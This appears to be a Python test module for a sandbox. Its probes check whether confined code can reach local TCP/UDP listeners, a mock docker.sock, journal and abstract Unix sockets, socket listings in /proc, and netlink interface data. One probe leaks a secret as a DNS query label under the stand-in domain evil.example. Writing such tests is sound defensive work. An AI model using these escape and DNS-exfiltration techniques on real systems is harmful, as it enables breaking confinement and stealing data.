"""Rubrics that talk to somebody: over TCP, UDP, a name server, sockets with a path and without one."""

import contextlib
import secrets
import shutil
import socket
import tempfile
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

from tests.hostile.engine.ground import Ground, Plan, confined_attack
from tests.hostile.engine.stage import Outcome
from tests.hostile.engine.tools import every_way

STREAM, DATAGRAM = socket.SOCK_STREAM, socket.SOCK_DGRAM


@contextmanager
def listener(family: int, kind: int, address: object) -> Iterator[socket.socket]:
    """Open a socket that somebody may talk to, and never wait for anybody."""
    with socket.socket(family, kind) as ours:
        ours.bind(address)  # type: ignore[arg-type]
        if kind == STREAM:
            ours.listen()
        ours.settimeout(0)
        yield ours


@contextmanager
def short_place() -> Iterator[Path]:
    """Give a directory whose path leaves room for a socket's name in 108 bytes."""
    place = tempfile.mkdtemp(prefix="sock-", dir="/tmp")
    Path(place).chmod(0o777)
    try:
        yield Path(place)
    finally:
        shutil.rmtree(place)


def heard(ours: socket.socket) -> bytes:
    """Return what arrived at a listener, if anything did; a bare connection counts too."""
    try:
        if ours.type == DATAGRAM:
            return ours.recv(4096)
        caller, _ = ours.accept()
    except BlockingIOError:
        return b""
    with caller:
        caller.settimeout(0)
        with contextlib.suppress(BlockingIOError, ConnectionResetError):
            return caller.recv(4096) or b"a connection"
        return b"a connection"


def connects(plan: Plan) -> str:
    import socket

    address = plan["address"]
    where = tuple(address) if isinstance(address, list) else address
    with socket.socket(plan["family"], plan["kind"]) as sender:
        sender.settimeout(2)
        sender.connect(where)
        sender.sendall(b"hello")
    return "said hello"


def _reached(ground: Ground, ours: socket.socket, harm: str) -> Outcome:
    address = ours.getsockname()
    if isinstance(address, bytes):
        address = address.decode()
    plan = {"family": int(ours.family), "kind": int(ours.type), "address": address}
    played = ground.play(connects, plan)
    return played.outcome(harm if heard(ours) else None)


@confined_attack("tcp_connection")
def tcp_connection(ground: Ground) -> Outcome:
    with listener(socket.AF_INET, STREAM, ("127.0.0.1", 0)) as ours:
        return _reached(ground, ours, "it reached a service of the machine")


@confined_attack("udp_datagram")
def udp_datagram(ground: Ground) -> Outcome:
    with listener(socket.AF_INET, DATAGRAM, ("127.0.0.1", 0)) as ours:
        return _reached(ground, ours, "its datagram arrived")


def asks_a_name_server(plan: Plan) -> str:
    import socket
    import struct

    labels = b"".join(bytes([len(label)]) + label for label in (plan["secret"].encode(), b"evil", b"example"))
    query = struct.pack(">6H", 0x1234, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">2H", 1, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as resolver:
        resolver.sendto(query, ("127.0.0.1", plan["port"]))
    return "asked"


@confined_attack("secret_in_a_name_query")
def secret_in_a_name_query(ground: Ground) -> Outcome:
    secret = secrets.token_hex(8)
    with listener(socket.AF_INET, DATAGRAM, ("127.0.0.1", 0)) as ours:
        played = ground.play(asks_a_name_server, {"secret": secret, "port": ours.getsockname()[1]})
        told = secret.encode() in heard(ours)
    return played.outcome("a secret left as the name of a host" if told else None)


@confined_attack("control_socket_with_a_path")
def control_socket_with_a_path(ground: Ground) -> Outcome:
    with short_place() as place, listener(socket.AF_UNIX, STREAM, f"{place}/docker.sock") as ours:
        (place / "docker.sock").chmod(0o777)
        return _reached(ground, ours, "it reached a service that acts for its user")


@confined_attack("datagram_to_a_path")
def datagram_to_a_path(ground: Ground) -> Outcome:
    with short_place() as place, listener(socket.AF_UNIX, DATAGRAM, f"{place}/log") as ours:
        (place / "log").chmod(0o777)
        return _reached(ground, ours, "it wrote into the machine's journal")


@confined_attack("abstract_socket")
def abstract_socket(ground: Ground) -> Outcome:
    with listener(socket.AF_UNIX, STREAM, f"\0{secrets.token_hex(8)}") as ours:
        return _reached(ground, ours, "it reached a service without a path")


def turns_a_pair_outwards(plan: Plan) -> str:
    import socket

    # A pair is all that a rubric may have; one of datagrams can be told to send elsewhere.
    def pair() -> socket.socket:
        return socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0]

    def by_connecting() -> None:
        sender = pair()
        sender.connect(plan["address"])
        sender.send(b"by connect")

    every_way(
        [
            lambda: pair().sendto(b"by sendto", plan["address"]),
            lambda: pair().sendmsg([b"by sendmsg"], [], 0, plan["address"]),
            by_connecting,
        ]
    )
    return "tried"


def _turned(ground: Ground, ours: socket.socket, harm: str) -> Outcome:
    address = ours.getsockname()
    name = address.decode() if isinstance(address, bytes) else address
    played = ground.play(turns_a_pair_outwards, {"address": name})
    ways = [found.decode() for _ in range(3) if (found := heard(ours))]
    return played.outcome(f"{harm} {', '.join(ways)}" if ways else None)


@confined_attack("pair_turned_to_a_path")
def pair_turned_to_a_path(ground: Ground) -> Outcome:
    with short_place() as place, listener(socket.AF_UNIX, DATAGRAM, f"{place}/log") as ours:
        (place / "log").chmod(0o777)
        return _turned(ground, ours, "its own pair reached a path:")


@confined_attack("pair_turned_to_an_abstract_name")
def pair_turned_to_an_abstract_name(ground: Ground) -> Outcome:
    with listener(socket.AF_UNIX, DATAGRAM, f"\0{secrets.token_hex(8)}") as ours:
        return _turned(ground, ours, "its own pair reached an abstract name:")


def opens_rare_sockets(_plan: Plan) -> str:
    import contextlib
    import socket

    found = []
    for family in range(46):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW):
            with contextlib.suppress(OSError), socket.socket(family, kind):
                found.append(str(family))
                break
    return " ".join(found)


@confined_attack("rare_socket_families")
def rare_socket_families(ground: Ground) -> Outcome:
    played = ground.play(opens_rare_sockets)
    got = played.loot()
    return played.outcome(f"the kernel gave it sockets of the families {got}" if got else None)


def reads_who_listens(plan: Plan) -> str | None:
    import contextlib

    for table in ("/proc/net/unix", "/proc/self/net/unix", "/proc/thread-self/net/unix"):
        with contextlib.suppress(OSError), open(table, encoding="utf-8", errors="replace") as file:
            _, found, rest = file.read().partition("@" + plan["prefix"])
            if found:
                return rest[:16]
    return None


@confined_attack("names_of_all_sockets")
def names_of_all_sockets(ground: Ground) -> Outcome:
    prefix, secret = secrets.token_hex(4), secrets.token_hex(8)
    with listener(socket.AF_UNIX, STREAM, f"\0{prefix}{secret}"):
        played = ground.play(reads_who_listens, {"prefix": prefix})
    return played.outcome("it knows who listens on this machine" if played.loot() == secret else None)


def asks_the_kernel_for_interfaces(_plan: Plan) -> str:
    import socket
    import struct

    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as kernel:
        kernel.settimeout(2)
        # RTM_GETLINK, and everything there is.
        kernel.send(struct.pack("IHHIIBxHiII", 32, 18, 0x301, 1, 0, 0, 0, 0, 0, 0))
        return str(len(kernel.recv(65_536)))


@confined_attack("interfaces_of_the_machine")
def interfaces_of_the_machine(ground: Ground) -> Outcome:
    played = ground.play(asks_the_kernel_for_interfaces)
    return played.outcome("the kernel described its network to it" if played.loot() else None)
